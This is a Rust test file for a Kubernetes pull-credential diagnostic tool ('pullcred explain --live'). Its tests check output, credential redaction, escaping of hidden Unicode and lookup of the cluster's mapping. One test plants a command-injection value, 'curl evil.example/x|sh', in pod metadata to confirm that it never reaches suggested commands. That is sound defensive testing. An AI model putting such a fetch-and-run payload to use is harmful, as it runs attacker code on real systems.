//! `pullcred explain --live`: Pods, their Secrets and the mapping of a cluster.

use std::{collections::BTreeMap, fs};

use serde_json::{Value, json};

use super::{api_server::ApiServer, cli::run, explain, snapshot};

fn pod(name: &str, images: &[&str], secrets: &[&str], waiting: &str) -> Value {
    let containers = images
        .iter()
        .enumerate()
        .map(|(at, image)| json!({"name": format!("c{at}"), "image": image}));
    let containers: Vec<Value> = containers.collect();
    let secrets: Vec<Value> = secrets.iter().map(|name| json!({"name": name})).collect();
    let state = match waiting {
        "" => json!({"running": {}}),
        reason => {
            json!({"waiting": {"reason": reason, "message": "failed to resolve reference: 401 Unauthorized"}})
        }
    };
    json!({
        "metadata": {"name": name, "namespace": "shop"},
        "spec": {"containers": containers, "imagePullSecrets": secrets},
        "status": {"containerStatuses": [{"name": "c0", "state": state}]},
    })
}

fn secret(name: &str, type_: &str, config: &Value) -> (u16, Value) {
    use base64::{Engine, prelude::BASE64_STANDARD};
    let config = BASE64_STANDARD.encode(config.to_string());
    let metadata = json!({"name": name, "namespace": "shop"});
    (200, json!({"metadata": metadata, "type": type_, "data": {".dockerconfigjson": config}}))
}

#[test]
fn the_story_of_a_cluster() {
    let list = |items: Vec<Value>, token: &str| {
        (
            200,
            json!({"kind": "PodList", "apiVersion": "v1", "metadata": {"continue": token}, "items": items}),
        )
    };
    let docker = "kubernetes.io/dockerconfigjson";
    let answers = BTreeMap::from([
        (
            "/api/v1/namespaces/shop/pods?&limit=250",
            list(
                vec![
                    pod(
                        "too-early",
                        &["ghcr.io/acme/web:1", "quay.io/acme/db"],
                        &[],
                        "ImagePullBackOff",
                    ),
                    pod(
                        "not-made",
                        &["quay.io/acme/web"],
                        &["acme-robot", "nowhere"],
                        "ErrImagePull",
                    ),
                    pod("refused", &["registry.example.com:443/db"], &["example"], "ErrImagePull"),
                ],
                "more",
            ),
        ),
        (
            "/api/v1/namespaces/shop/pods?&limit=250&continue=more",
            list(
                vec![
                    pod("opaque", &["ghcr.io/x/y"], &["github"], "ErrImagePull"),
                    pod("broken", &["nginx"], &["broken"], "ErrImagePull"),
                    pod("no-image", &["ghcr.io/Acme/web"], &[], "InvalidImageName"),
                    pod("hidden", &["gcr.io/x/y", "gcr.io/x/z"], &["hidden"], "ErrImagePull"),
                    pod("well", &["registry.example.com:443/db"], &["example"], ""),
                ],
                "",
            ),
        ),
        ("/api/v1/namespaces/shop", (200, json!({"metadata": {"name": "shop"}}))),
        (
            "/api/v1/namespaces/shop/secrets/example",
            secret(
                "example",
                docker,
                &json!({"auths": {"registry.example.com:443": {"auth": "cm9ib3Q6cHc="}}}),
            ),
        ),
        (
            "/api/v1/namespaces/shop/secrets/github",
            secret("github", "Opaque", &json!({"auths": {"ghcr.io": {}}})),
        ),
        (
            "/api/v1/namespaces/shop/secrets/broken",
            secret("broken", docker, &json!({"auths": {"quay.io": {"auth": "hunter2"}}})),
        ),
        (
            "/api/v1/namespaces/shop/secrets/hidden",
            (403, json!({"message": "secrets \"hidden\" is forbidden", "reason": "Forbidden"})),
        ),
    ]);
    let server = ApiServer::start(answers);
    let folder = tempfile::tempdir().unwrap();
    let kubeconfig = folder.path().join("kubeconfig");
    fs::write(&kubeconfig, server.kubeconfig()).unwrap();
    let live = ["--live", "--kubeconfig", kubeconfig.to_str().unwrap()];
    let run = explain(&live, "");
    snapshot("live", &run.shown());
    let run = explain(&[&live[..], &["-o", "json"]].concat(), "");
    snapshot("live-json", &run.shown());
    assert!(!run.stdout.contains("hunter2"));

    let run = explain(&[&live[..], &["-n", "elsewhere"]].concat(), "");
    snapshot("live-refused", &run.shown());
    let run = explain(&["--live", "--kubeconfig", "nowhere"], "");
    snapshot("live-without-a-kubeconfig", &run.shown());
}

/// What `explain --live` shows of one Pod in namespace `shop`, which has opted in and has no Secret.
fn explain_one(pod: &Value) -> String {
    let list = json!({"kind": "PodList", "apiVersion": "v1", "metadata": {}, "items": [pod]});
    let labels = json!({"name": "shop", "labels": {"pullcred.dev/inject": "enabled"}});
    let answers = BTreeMap::from([
        ("/api/v1/namespaces/shop/pods?&limit=250", (200, list)),
        ("/api/v1/namespaces/shop", (200, json!({"metadata": labels}))),
    ]);
    let server = ApiServer::start(answers);
    let folder = tempfile::tempdir().unwrap();
    let kubeconfig = folder.path().join("kubeconfig");
    fs::write(&kubeconfig, server.kubeconfig()).unwrap();
    let run = explain(&["--live", "--kubeconfig", kubeconfig.to_str().unwrap()], "");
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    run.stdout
}

#[test]
fn text_of_a_tenant_is_in_no_command() {
    let evil = "db -n shop; curl evil.example/x|sh; :";
    for kind in ["StatefulSet", "Deployment", "Job", "Rollout", evil] {
        let mut waits =
            pod("innocent", &["ghcr.io/acme/web:1"], &[evil, "$(evil)"], "ErrImagePull");
        waits["metadata"]["ownerReferences"] =
            json!([{"apiVersion": "apps/v1", "kind": kind, "name": evil, "controller": true}]);
        let shown = explain_one(&waits);
        let commands =
            shown.lines().filter(|line| line.contains("kubectl") || line.contains("docker login"));
        let commands: Vec<_> = commands.collect();
        assert!(commands.len() >= 2, "{shown}");
        assert!(commands.iter().all(|line| !line.contains("evil")), "{kind}: {shown}");
        assert!(shown.contains("no Secret can have that name"), "{shown}");
    }
}

#[test]
fn what_turns_text_around_is_escaped() {
    let image = "ghcr.io/acme/\u{202e}1:bew\u{200b}\u{feff}\u{2066}";
    let shown = explain_one(&pod("a", &[image], &[], "InvalidImageName"));
    assert!(shown.contains(r"ghcr.io/acme/\u{202e}1:bew\u{200b}\u{feff}\u{2066}"), "{shown}");
    assert!(!shown.contains(['\u{202e}', '\u{200b}', '\u{feff}', '\u{2066}']), "{shown}");
    let run = explain(&["-f", "nowhere\u{202e}\u{1b}[31m"], "");
    assert!(run.stderr.contains(r"nowhere\u{202e}\u{1b}[31m"), "{}", run.stderr);
}

#[test]
fn a_pod_that_opted_out_needs_no_other_login() {
    let mut out = pod("out", &["ghcr.io/acme/web:1"], &[], "ErrImagePull");
    out["metadata"]["labels"] = json!({"pullcred.dev/inject": "disabled"});
    let shown = explain_one(&out);
    assert!(
        shown.contains("do: remove the label pullcred.dev/inject from what makes the Pod"),
        "{shown}"
    );
    assert!(!shown.contains("other registries"), "{shown}");
}

#[test]
fn a_waiting_pod_of_a_stateful_set_is_to_be_deleted() {
    let mut db = pod("db-0", &["ghcr.io/acme/db:1"], &[], "ImagePullBackOff");
    db["metadata"]["ownerReferences"] =
        json!([{"apiVersion": "apps/v1", "kind": "StatefulSet", "name": "db", "controller": true}]);
    let shown = explain_one(&db);
    assert!(shown.contains("kubectl delete pod -n shop db-0"), "{shown}");
    assert!(!shown.contains("rollout restart"), "{shown}");
}

#[test]
fn the_mapping_of_a_cluster_is_found_there() {
    let list =
        |kind: &str, items: Value| (200, json!({"kind": kind, "metadata": {}, "items": items}));
    let waits = pod("a", &["ghcr.io/acme/web:1"], &[], "ErrImagePull");
    let webhook = json!({
        "name": "inject.pullcred.dev", "sideEffects": "None", "admissionReviewVersions": ["v1"],
        "clientConfig": {"service": {"namespace": "pullcred", "name": "pullcred"}},
    });
    let configuration = json!({"metadata": {"name": "pullcred"}, "webhooks": [webhook]});
    let replica = json!({
        "metadata": {"name": "pullcred-1", "namespace": "pullcred"},
        "spec": {
            "containers": [{
                "name": "webhook", "args": ["webhook", "--config=/etc/pullcred/mapping.yaml"],
                "volumeMounts": [{"name": "m", "mountPath": "/etc/pullcred"}],
            }],
            "volumes": [{"name": "m", "configMap": {"name": "pullcred-mapping"}}],
        },
    });
    let service =
        json!({"metadata": {"name": "pullcred"}, "spec": {"selector": {"app": "pullcred"}}});
    let mapping = "# one\n# two\nrules:\n  - registries: [ghcr.io]\n    secret: of-the-cluster\n";
    let map = json!({"metadata": {"name": "pullcred-mapping"}, "data": {"mapping.yaml": mapping}});
    let webhooks = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations?&limit=250";
    let answers = BTreeMap::from([
        ("/api/v1/namespaces/shop/pods?&limit=250", list("PodList", json!([waits]))),
        (webhooks, list("MutatingWebhookConfigurationList", json!([configuration]))),
        ("/api/v1/namespaces/pullcred/services/pullcred", (200, service)),
        (
            "/api/v1/namespaces/pullcred/pods?&labelSelector=app%3Dpullcred&limit=250",
            list("PodList", json!([replica])),
        ),
        ("/api/v1/namespaces/pullcred/configmaps/pullcred-mapping", (200, map)),
    ]);
    let folder = tempfile::tempdir().unwrap();
    let explained = |answers: &BTreeMap<&'static str, (u16, Value)>, config: &[&str]| {
        let server = ApiServer::start(answers.clone());
        let kubeconfig = folder.path().join("kubeconfig");
        fs::write(&kubeconfig, server.kubeconfig()).unwrap();
        let live = ["explain", "--live", "--kubeconfig", kubeconfig.to_str().unwrap()];
        run(&[&live[..], config].concat(), "")
    };
    let found = explained(&answers, &[]);
    assert_eq!(found.code, Some(0), "{}", found.shown());
    assert!(found.stdout.contains("line 4, ghcr.io, names of-the-cluster"), "{}", found.shown());
    let by = "by the mapping of configmap pullcred/pullcred-mapping, which has the lines that are named\n";
    assert_eq!(found.stderr, by);

    let other = ["--config", "explain/mapping.yaml"];
    let found = explained(&answers, &other);
    assert!(found.stdout.contains("names github"), "{}", found.shown());
    assert!(
        found.stderr.contains("is not the mapping of configmap pullcred/pullcred-mapping"),
        "{}",
        found.stderr
    );
    let same = folder.path().join("same.yaml");
    fs::write(&same, "rules: [{registries: [GHCR.io], secret: of-the-cluster}]\n").unwrap();
    assert_eq!(explained(&answers, &["--config", same.to_str().unwrap()]).stderr, "");

    let mut absent = answers.clone();
    absent.insert(webhooks, list("MutatingWebhookConfigurationList", json!([])));
    let found = explained(&absent, &other);
    assert!(
        found.stderr.contains("no MutatingWebhookConfiguration has the webhook"),
        "{}",
        found.stderr
    );
    assert!(
        found.stdout.contains("do: install pullcred, or `helm upgrade` it"),
        "{}",
        found.shown()
    );
    let found = explained(&absent, &[]);
    assert_eq!((found.code, found.stdout.as_str()), (Some(1), ""), "{}", found.shown());
    assert!(found.stderr.contains("Name one with --config FILE"), "{}", found.stderr);
}
